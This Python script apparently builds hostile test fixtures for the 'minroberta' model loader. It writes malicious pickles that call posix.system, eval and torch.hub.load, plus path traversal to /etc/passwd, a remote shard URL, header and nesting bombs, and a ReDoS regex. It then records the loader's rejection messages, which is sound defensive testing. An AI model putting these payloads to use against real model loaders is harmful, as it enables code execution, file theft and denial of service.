"""Write the hostile files of this folder, and the answer to each: `PYTHONPATH=. python attacks/write.py`.

Every file is made of the bytes below, the same on every machine. None does harm unless it is loaded carelessly.
"""

import io
import json
import re
import struct
import zipfile
from pathlib import Path

import minroberta
from minroberta.weights import flat

HERE = Path(__file__).parent
ROW = re.compile(r"^\| `([^`]+)` \| (.+) \| (.+) \|$", re.MULTILINE)
SIZES = {"vocab_size": 8, "max_position_embeddings": 8, "hidden_size": 4, "intermediate_size": 4}
CONFIG = {"model_type": "roberta", "architectures": ["RobertaModel"], "num_hidden_layers": 1, "num_attention_heads": 2}
WEIGHT = "embeddings.word_embeddings.weight"


# --- pickles, in an archive as torch.save lays it out ---------------------------------------------------------------


def archive(pickled: bytes, *others: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, content in (("x/data.pkl", b"\x80\x02" + pickled + b"."), *others):
            made.writestr(zipfile.ZipInfo(name), content)
    return file.getvalue()


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def call(module: str, function: str, argument: str) -> bytes:
    return archive(f"c{module}\n{function}\n(".encode() + text(argument) + b"tR")


def number(value: int) -> bytes:
    return b"\x8a\x08" + struct.pack("<q", value)


def row(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def tensor(shape: tuple[int, ...], strides: tuple[int, ...], count: int = 1000, key: str = "0") -> bytes:
    """A view of a storage of `count` numbers."""
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + number(count) + b"tQ"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\0" + row(shape) + row(strides) + b"\x89)tR"


def model(words: bytes) -> bytes:
    """Every weight of a model, all views of one storage of 1000 numbers, with `words` for the word embeddings."""
    weights = flat(minroberta.init({**CONFIG, **SIZES}, head="encoder").params)
    tensors = {name: tensor(x.shape, (0,) * x.ndim) for name, x in weights.items()} | {WEIGHT: words}
    pickled = b"}" + b"".join(text(name) + made + b"s" for name, made in tensors.items())
    return archive(pickled, ("x/data/0", bytes(4000)))


PICKLES = {
    "system-call.bin": call("posix", "system", "touch harm"),
    "eval.bin": call("builtins", "eval", "open('harm', 'w')"),
    "import.bin": call("builtins", "__import__", "antigravity"),
    "hub.bin": call("torch.hub", "load", "stranger/harm"),
    "old-instance.bin": archive(b"(" + text("touch harm") + b"iposix\nsystem\n"),
    "deep-key.bin": archive(b"}" + b")" + b"\x85" * 200_000 + b"Ns"),
    "stride-outside.bin": model(tensor((8, 4), (2**40, 1))),
    "storage-too-long.bin": model(tensor((8, 4), (4, 1), count=2**40)),
    "storage-elsewhere.bin": model(tensor((8, 4), (4, 1), key="../../../etc/passwd")),
    "path-outside.bin": archive(b"}", ("x/../../harm", b"harm")),
}

# --- headers of safetensors, and maps of msgpack --------------------------------------------------------------------


def safetensors(header: bytes, data: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + data


def entry(start: int, stop: int, shape: tuple[int, ...] = (2,)) -> dict[str, object]:
    return {"dtype": "F32", "shape": shape, "data_offsets": [start, stop]}


HEADERS = {
    "header-too-long.safetensors": struct.pack("<Q", 2**62) + b"{}",
    "header-deep.safetensors": safetensors(b'{"a":' * 2_000),
    "overlapping.safetensors": safetensors(json.dumps({"a": entry(0, 8), "b": entry(4, 12)}).encode(), bytes(12)),
    "outside.safetensors": safetensors(json.dumps({"a": entry(0, 8)}).encode(), bytes(4)),
    "deep.msgpack": b"\x81\xa1a" * 2_000,
    "map-too-long.msgpack": b"\xdf\xff\xff\xff\xff",
}

# --- directories ----------------------------------------------------------------------------------------------------


def index(file: str) -> bytes:
    return json.dumps({"weight_map": {WEIGHT: file}}).encode()


DIRECTORIES = {
    "small-file-large-model/config.json": json.dumps({**CONFIG, **SIZES, "vocab_size": 10_000_000}).encode(),
    "small-file-large-model/pytorch_model.bin": model(tensor((10_000_000, 4), (0, 0))),
    "shard-elsewhere/config.json": json.dumps({**CONFIG, **SIZES}).encode(),
    "shard-elsewhere/model.safetensors.index.json": index("../../minroberta/tiny/model.safetensors"),
    "shard-by-address/config.json": json.dumps({**CONFIG, **SIZES}).encode(),
    "shard-by-address/model.safetensors.index.json": index("https://stranger.example/model.safetensors"),
    "many-layers/config.json": json.dumps({**CONFIG, **SIZES, "num_hidden_layers": 10**9}).encode(),
    "many-layers/model.safetensors": safetensors(json.dumps({WEIGHT: entry(0, 128, (8, 4))}).encode(), bytes(128)),
    "deep-config/config.json": b'{"a":' * 2_000,
    "deep-config/model.safetensors": safetensors(json.dumps({WEIGHT: entry(0, 128, (8, 4))}).encode(), bytes(128)),
}

# --- tokenizers -----------------------------------------------------------------------------------------------------

WORDS = {"type": "WordLevel", "vocab": {"<s>": 0, "<pad>": 1, "</s>": 2, "<unk>": 3, "a": 4}, "unk_token": "<unk>"}
TOKEN = {"id": 5, "content": "a" * 900, "normalized": True, "special": False} | dict.fromkeys(
    ("single_word", "lstrip", "rstrip"), False
)
SIX_OF_ONE = {"type": "Replace", "pattern": {"String": "a"}, "content": "a" * 6}


def split(pattern: str) -> dict[str, object]:
    return {"pre_tokenizer": {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False}}


def tokenizer(**parts: object) -> bytes:
    return json.dumps({"version": "1.0", "added_tokens": [], "model": WORDS, **parts}).encode()


TOKENIZERS = {
    "many-of-one/tokenizer.json": tokenizer(
        normalizer={"type": "Sequence", "normalizers": [SIX_OF_ONE] * 4}, added_tokens=[TOKEN]
    ),
    "doublings/tokenizer.json": tokenizer(
        decoder={"type": "Sequence", "decoders": [{**SIX_OF_ONE, "content": "aa"}] * 40}
    ),
    "slow-pattern/tokenizer.json": tokenizer(**split("(a+)+$")),
    "two-models/tokenizer.json": tokenizer()[:-1] + b', "model": ' + json.dumps(WORDS).encode() + b"}",
}

FILES = {"config.json": json.dumps({**CONFIG, **SIZES}).encode(), **PICKLES, **HEADERS, **DIRECTORIES, **TOKENIZERS}


def answer(name: str) -> str:
    """The message of `minroberta.load` for this file or tokenizer, with … for the words of a library."""
    path = HERE / name
    try:
        minroberta.load(**({"tokenizer": path} if (path / "tokenizer.json").is_file() else {"name": path}))
    except minroberta.Error as error:
        sentence = str(error).replace(str(HERE / name), f"attacks/{name}").replace(f"{name}\\", f"{name}/")
        return re.sub(r"(Error while|maximum recursion).*", "…", sentence)
    return "it is loaded"


if __name__ == "__main__":
    for name, content in FILES.items():
        path = HERE / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content)
    page = HERE / "README.md"
    table = page.read_text(encoding="utf-8")
    table = ROW.sub(lambda found: f"| `{found[1]}` | {found[2]} | {answer(found[1])} |", table)
    page.write_text(table, encoding="utf-8")
